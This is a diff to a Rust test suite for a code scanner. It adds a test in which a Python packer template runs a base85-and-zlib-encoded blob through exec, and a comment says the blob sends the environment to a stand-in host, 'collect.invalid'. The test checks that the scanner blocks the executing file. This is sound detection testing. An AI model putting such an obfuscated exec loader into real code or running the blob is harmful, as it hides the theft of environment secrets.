@@ -322,3 +322,17 @@ fn a_service_is_given_the_key_that_it_gave_out() {
     assert_eq!(verdict("vercel.pushinert.vercel.app").as_deref(), Some("medium"));
     assert_eq!(verdict("x.vercel.app").as_deref(), Some("high"));
 }
+
+#[test]
+fn the_template_of_a_packer_is_code_once_it_is_executed() {
+    let packer = "import base64, zlib\n\nTEMPLATE = 'import base64,zlib\\nexec(zlib.decompress(base64.b85decode({blob!r})))\\n'\n\n\n\
+                  def pack(source):\n    return TEMPLATE.format(blob=base64.b85encode(zlib.compress(source.encode(), 9)))\n";
+    // What it encodes sends the environment to `collect.invalid`.
+    let blob = "c-jrfF%Ezr3;@90S9B8+0=vIKXkwE}v8}vcx69EzMIFQvyvj^xR(xJGhiagk=6_}42>aze?I@)QGd9mOR%Pl1_XOq|IyDbs8OI`(5#z5W9Yc)U2XgHr%m";
+    let executed = format!("{packer}\n\nexec(TEMPLATE.format(blob='{blob}'))\n");
+    let folder = Folder::new();
+    let paths = [folder.put("packer.py", packer), folder.put("executed.py", executed.as_str())];
+    let run = records_of(scan(paths.map(std::path::PathBuf::into_os_string)));
+    assert_eq!(run.artifact("packer.py")["verdict"], "pass");
+    assert_eq!(run.artifact("executed.py")["verdict"], "block");
+}
